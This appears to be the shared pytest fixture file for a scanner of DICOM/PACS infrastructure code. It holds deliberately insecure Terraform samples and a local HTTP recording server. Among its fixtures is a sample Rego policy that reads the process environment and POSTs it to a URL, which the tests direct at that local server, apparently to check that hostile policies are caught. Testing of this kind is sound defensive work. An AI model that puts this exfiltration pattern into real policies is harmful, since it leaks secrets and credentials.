"""Fixtures shared by the whole suite. Each test folder mirrors a source folder."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

PROJECT = Path(__file__).resolve().parents[1]
EXAMPLES = PROJECT / "examples"
SHARED = Path(os.environ.get("DICOMGUARD_SHARED", PROJECT.parent / "shared"))
IN_CI = os.environ.get("CI", "").lower() in {"1", "true", "yes"}


def library_report(path: Path, engine: object = None, **scan_options: object) -> str:
    """The JSON report of a scan of `path` through the library (the embedded engine unless
    another is given), run from the project root as the command line would be."""
    from dicomguard.engines import make_engine
    from dicomguard.policies import load_policies
    from dicomguard.report import RenderOptions
    from dicomguard.report.json_format import render
    from dicomguard.report.rooted import rooted
    from dicomguard.scan import run_scan
    from dicomguard.sources import ScanContext

    policies = load_policies([])
    relative = os.path.relpath(path, PROJECT)
    context = ScanContext(roots=[relative], catalogue=policies.catalogue())
    working = Path.cwd()
    os.chdir(PROJECT)
    try:
        report = run_scan([relative], policies, engine or make_engine("embedded"), context,
                          whole_modules=True, **scan_options)  # type: ignore[arg-type]
    finally:
        os.chdir(working)
    return render(rooted(report), RenderOptions())


def need(condition: bool, reason: str) -> None:
    """Skip a test whose prerequisite is missing on a developer machine; fail it in CI, where
    .ci/run installs every prerequisite."""
    if condition:
        return
    if IN_CI:
        pytest.fail(f"prerequisite missing in CI: {reason}")
    pytest.skip(reason)


def ensure_built(script: str, configured: str | None) -> str | None:
    """A pinned tool: configured when it names a file, else what .ci/<script> builds (once,
    with go install) and prints; None when neither can be had."""
    if configured and Path(configured).is_file():
        return configured
    try:
        completed = subprocess.run(["bash", str(PROJECT / ".ci" / script)],
                                   capture_output=True, text=True, timeout=1800, check=False)
    except (OSError, subprocess.TimeoutExpired):
        return None
    path = completed.stdout.strip()
    return path if completed.returncode == 0 and Path(path).is_file() else None


def git_repository(path: Path) -> Callable[..., None]:
    """`git init` at path with a committer; returns a function that runs git there."""
    need(shutil.which("git") is not None, "git is not installed")

    def git(*args: str) -> None:
        subprocess.run(["git", *args], cwd=path, check=True, capture_output=True)

    git("init", "-q")
    git("config", "user.email", "ci@example.org")
    git("config", "user.name", "ci")
    return git


@pytest.fixture(scope="session")
def shared_dir() -> Path:
    """../shared (corpus, schemas). Tests that read it skip only when it is absent."""
    if not SHARED.is_dir():
        pytest.skip(f"{SHARED} is absent")
    return SHARED


def run_cli(*args: str, cwd: Path | None = None, env: dict[str, str] | None = None,
            timeout: float = 300) -> subprocess.CompletedProcess[str]:
    """Run the real command line, as users do."""
    inherited = {key: value for key, value in os.environ.items() if key != "COLUMNS"}
    full_env = {**inherited, "NO_COLOR": "1", **(env or {})}  # 100 columns unless env says
    return subprocess.run([sys.executable, "-m", "dicomguard", *args], cwd=cwd or PROJECT,
                          env=full_env, capture_output=True, text=True, timeout=timeout)


# Runs a command as the only child of a small interpreter, and reports the child's peak resident
# memory with its output: a child's ru_maxrss starts from the memory of the process that spawned
# it, so measured from pytest's own (hundreds of MiB late in the suite) it would mean nothing.
_MEASURED_RUN = """\
import json, resource, subprocess, sys
done = subprocess.run(sys.argv[1:], capture_output=True, text=True)
peak_kib = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
json.dump({"code": done.returncode, "stdout": done.stdout, "stderr": done.stderr,
           "peak_kib": peak_kib}, sys.stdout)
"""


def measured_cli(*args: str, cwd: Path, timeout: float) -> dict[str, Any]:
    """The real command line, measured: code, stdout, stderr and peak_kib (of the command or of
    what it ran, the largest)."""
    measured = subprocess.run(
        [sys.executable, "-c", _MEASURED_RUN, sys.executable, "-m", "dicomguard", *args],
        cwd=cwd, env={**os.environ, "NO_COLOR": "1"}, capture_output=True, text=True,
        timeout=timeout, check=True)
    result: dict[str, Any] = json.loads(measured.stdout)
    return result


def scan_json(*args: str, cwd: Path | None = None) -> tuple[int, dict]:
    """Scan and return (exit code, JSON report)."""
    result = run_cli("scan", "--format", "json", *args, cwd=cwd)
    assert result.stdout, result.stderr
    return result.returncode, json.loads(result.stdout)


@pytest.fixture
def cli():
    """The real command line (run_cli), as a fixture."""
    return run_cli


@pytest.fixture
def report_for():
    """Run the scan after collection (policies, findings, suppressions) over facts built with
    dicomguard.facts, for report and suppression tests that need no source family."""
    from dicomguard.engines import make_engine
    from dicomguard.model import CollectResult, Facts
    from dicomguard.policies import load_policies
    from dicomguard.scan import report_from_facts

    def build(facts: Facts, errors: list | None = None, settings: dict | None = None,
              policy_dirs: tuple[str, ...] = ()):
        started = time.perf_counter()
        scanned_files = sorted({fact["origin"]["file"] for fact in facts.all_facts()})
        collected = CollectResult(facts=facts, errors=list(errors or []))
        return report_from_facts(collected, load_policies(policy_dirs), make_engine("embedded"),
                                 settings or {}, scanned_files=scanned_files,
                                 started=started)

    return build


# A security group whose DICOM source is a variable with a private default.
VARIABLE_CIDR_MODULE = '''
variable "dicom_cidr" {
  type    = string
  default = "10.0.0.0/8"
}

resource "aws_security_group" "pacs" {
  name = "pacs"
  ingress {
    from_port   = 104
    to_port     = 104
    protocol    = "tcp"
    cidr_blocks = [var.dicom_cidr]
  }
}
'''


PACS_TF = """\
resource "aws_security_group" "pacs" {
  name = "pacs"
  ingress {
    from_port   = 104
    to_port     = 104
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }
}

resource "aws_ebs_volume" "images" {
  size      = 500
  encrypted = false
}

resource "aws_security_group_rule" "modality" {
  type        = "ingress"
  from_port   = var.dicom_port
  to_port     = var.dicom_port
  protocol    = "tcp"
  cidr_blocks = ["0.0.0.0/0"]
}
"""


@pytest.fixture
def pacs_facts(tmp_path: Path):
    """A small insecure deployment on disk and the facts an AWS adapter makes of it: an open
    DICOM port (confirmed), an unencrypted volume, and an open port whose number is a variable
    (unresolved). Returns (path of main.tf, Facts)."""
    from dicomguard.facts import ingress, peer, port_range, storage
    from dicomguard.model import Facts, Origin, Unknown

    main = tmp_path / "main.tf"
    main.write_text(PACS_TF, encoding="utf-8")
    file = str(main)
    facts = Facts()
    facts.ingress.append(ingress(
        Origin(file, 1, 9, "aws_security_group.pacs"), platform="aws",
        mechanism="security_group", protocol="tcp", ports=[port_range(104, 104)],
        peers=[peer("0.0.0.0/0")], suffix="ingress0"))
    facts.storage.append(storage(
        Origin(file, 11, 14, "aws_ebs_volume.images"), platform="aws", kind="block",
        encrypted=False))
    unknown_port = Unknown("var.dicom_port has no value")
    facts.ingress.append(ingress(
        Origin(file, 16, 22, "aws_security_group_rule.modality"), platform="aws",
        mechanism="security_group_rule", protocol="tcp",
        ports=[port_range(unknown_port, unknown_port)], peers=[peer("0.0.0.0/0")]))
    return main, facts


USER_POLICY = """\
# METADATA
# title: {title}
# description: A user rule that always reports, to exercise the gate without any source family.
# custom:
#   id: {rule_id}
#   severity: {severity}
#   category: missing-authentication
#   remediation: Put the archive behind authentication.
#   references:
#     - HIPAA 45 CFR 164.312(d) Person or entity authentication
package dicomguard.rules.{package}

deny contains finding if {{
	finding := {{"message": {message}, "confidence": "{confidence}"}}
}}
"""


@pytest.fixture
def user_policy(tmp_path: Path):
    """Write a policy directory with one rule that always reports; returns its path."""
    def make(rule_id: str = "USR1", severity: str = "medium", confidence: str = "confirmed",
             message: str = "the archive has no authentication",
             title: str = "Archive without authentication") -> str:
        directory = tmp_path / f"policies-{rule_id}"
        directory.mkdir()
        (directory / "always.rego").write_text(USER_POLICY.format(
            rule_id=rule_id, severity=severity, confidence=confidence, message=json.dumps(message),
            title=title, package=rule_id.lower()), encoding="utf-8")
        return str(directory)

    return make


STEALING_POLICY = """\
# METADATA
# title: Reads the environment and sends it away
# custom:
#   id: EVIL1
#   severity: low
#   category: missing-authentication
package dicomguard.rules.evil1

deny contains finding if {{
	environment := opa.runtime().env
	response := http.send({{"method": "POST", "url": "{url}", "body": environment}})
	finding := {{"message": sprintf("%v", [response.status_code]), "confidence": "confirmed"}}
}}
"""
STEALING_POLICY_LINES = {"opa.runtime": 10, "http.send": 11}


class _Listener(ThreadingHTTPServer):
    """A local HTTP server that records every request it is sent."""

    def __init__(self) -> None:
        self.received: list[bytes] = []
        listener = self

        class Recorder(BaseHTTPRequestHandler):
            def _record(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                listener.received.append(bytes(self.requestline, "latin-1") + b"\n"
                                         + bytes(self.headers) + self.rfile.read(length))
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.end_headers()
                self.wfile.write(b"{}")

            do_GET = do_PUT = do_POST = do_PATCH = _record

            def log_message(self, *arguments) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Recorder)
        self.timeout = 1

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


@pytest.fixture
def listener():
    """A real HTTP server on 127.0.0.1 for the length of one test; asserts what reached it."""
    server = _Listener()
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05},
                              daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=10)
